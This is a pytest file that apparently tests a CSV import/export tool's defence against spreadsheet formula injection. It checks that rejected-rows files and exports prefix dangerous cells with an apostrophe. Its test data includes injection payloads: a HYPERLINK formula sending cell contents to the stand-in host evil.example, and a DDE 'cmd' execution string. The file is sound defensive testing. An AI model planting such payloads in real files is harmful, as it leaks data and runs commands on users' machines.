"""Files a spreadsheet will open are formula-safe: the import's rejected-rows file and the export
neutralise =, +, -, @ and their full-width forms, and the apostrophe round-trips."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from sdrdesk.cli import main as cli_main
from sdrdesk.services.csv_import import values
from sdrdesk.services.csv_safe import FORMULA_PREFIXES, neutralise

DANGEROUS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|'/c calc'!A1", "-2+3",
             "@SUM(A1:A9)", "＝HYPERLINK(\"http://evil.example\")", "＋1", "－1+1", "＠SUM(A1)"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_every_formula_start_is_neutralised_and_comes_back_on_import(cell: str) -> None:
    safe = neutralise(cell)
    assert safe == "'" + cell
    assert values.clean(safe) == cell  # the importer removes exactly that apostrophe


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_the_rejected_rows_file_is_formula_safe(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    source = tmp_path / "leads.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["First Name", "Last Name", "Email", "Company"])
        for i in range(0, len(DANGEROUS), 2):  # five fields under four headers: rejected
            writer.writerow([DANGEROUS[i], DANGEROUS[i + 1], f"p{i}@example.org", "=1+1", "@extra"])
        writer.writerow(["Ada", "Lovelace", "ada@example.org", "Analytical"])
    reports = tmp_path / "reports"
    argv = ["import", str(source), "--data", str(tmp_path / "data"), "--report-dir", str(reports)]
    assert cli_main(argv) == 0
    rejects = next(reports.glob("*rejects.csv"))
    cells = _cells(rejects)
    assert any(c.lstrip("'") == DANGEROUS[0] for c in cells)  # the rejected rows are really there
    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert dangerous == [], f"cells a spreadsheet would run: {dangerous}"
    assert "rejected 4" in capsys.readouterr().out


def test_an_export_neutralises_full_width_formula_cells(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    source = tmp_path / "people.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["First Name", "Last Name", "Email", "Company", "Title"])
        writer.writerow(["＝HYPERLINK(\"http://evil.example\")", "＠SUM(A1)", "eve@example.org", "＋Corp",
                         "－1+1"])
    data = tmp_path / "data"
    assert cli_main(["import", str(source), "--data", str(data)]) == 0
    out = tmp_path / "out.csv"
    assert cli_main(["export", "contacts", str(out), "--data", str(data)]) == 0
    cells = _cells(out)
    assert "'＝HYPERLINK(\"http://evil.example\")" in cells and "'＠SUM(A1)" in cells and "'－1+1" in cells
    assert [c for c in cells if c.startswith(FORMULA_PREFIXES)] == []
    capsys.readouterr()
